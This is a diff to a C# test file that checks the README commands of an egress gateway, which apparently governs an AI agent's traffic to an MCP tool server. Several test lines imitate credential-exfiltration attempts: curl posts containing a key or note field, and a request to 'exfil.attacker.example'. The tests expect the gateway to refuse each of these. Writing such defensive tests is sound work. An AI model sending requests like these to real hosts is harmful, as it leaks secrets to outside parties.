@@ -28,6 +28,8 @@ public sealed partial class ReadmeExamplesTests
             ["""{"action":"deny","rule":"default-deny-internet","priority":5,"enforced":false,"decrypt":false,"reason":"matched rule 'default-deny-internet' in watch mode: logged, not enforced"}"""]),
         // Run the gateway
         ("scripts/corral init --template azure-foundry --agent-subnet 127.0.0.1/32", 0, ["wrote try.yaml"]),
+        ("(umask 077; echo 'lab-mcp-token-7f3a9c' > mcp.token)", 0, []),
+        ("printf 'credentials:", 0, []),
         ("scripts/corral ca init --out corral-ca --constrain-to try.yaml", 0, ["constrained to: mcp.contoso.com"]),
         ("scripts/corral lab standin", 0, []),
         ("echo '127.0.0.9", 0, []),
@@ -37,10 +39,12 @@ public sealed partial class ReadmeExamplesTests
         ("until (: </dev/tcp/127.0.0.1/3128)", 0, []),
         ("export HTTPS_PROXY=", 0, []),
         ("curl -s --cacert agent-trust.pem https://mcp.contoso.com/tools", 0, ["""{"standIn":"mcp.contoso.com","method":"GET","path":"/tools","bodyBytes":0}"""]),
-        ("curl -s --cacert agent-trust.pem -d", 0, ["""{"error":"refused_by_gateway","check":"payload-inspection","""]),
+        ("curl -s --cacert agent-trust.pem -d 'key=", 0, ["""{"error":"refused_by_gateway","check":"payload-inspection","""]),
+        ("curl -s --cacert agent-trust.pem -H 'Authorization: Bearer corral-cred-mcp-token'", 0, ["""{"standIn":"mcp.contoso.com","method":"GET","path":"/tools","bodyBytes":0,"authorization":"Bearer lab-...9c"}"""]),
+        ("curl -s --cacert agent-trust.pem -d 'note=", 0, ["""{"error":"refused_by_gateway","check":"credential-exfiltration","""]),
         ("curl -sS --cacert agent-trust.pem https://exfil.attacker.example/", 56, ["CONNECT tunnel failed, response 403"]),
         ("unset HTTPS_PROXY; kill $gateway; wait $gateway", 0, []),
-        ("grep -c '\"event\":\"decision\"' flows.jsonl", 0, [WholeLine + "3"]),
+        ("grep -c '\"event\":\"decision\"' flows.jsonl", 0, [WholeLine + "5"]),
         // Operate it live: from watch to enforce
         ("umask 077;", 0, []),
         ("scripts/corral init --template azure-foundry --agent-subnet 127.0.0.1/32 --tool-fqdn mcp.contoso.com -o watch.yaml", 0, ["wrote watch.yaml"]),
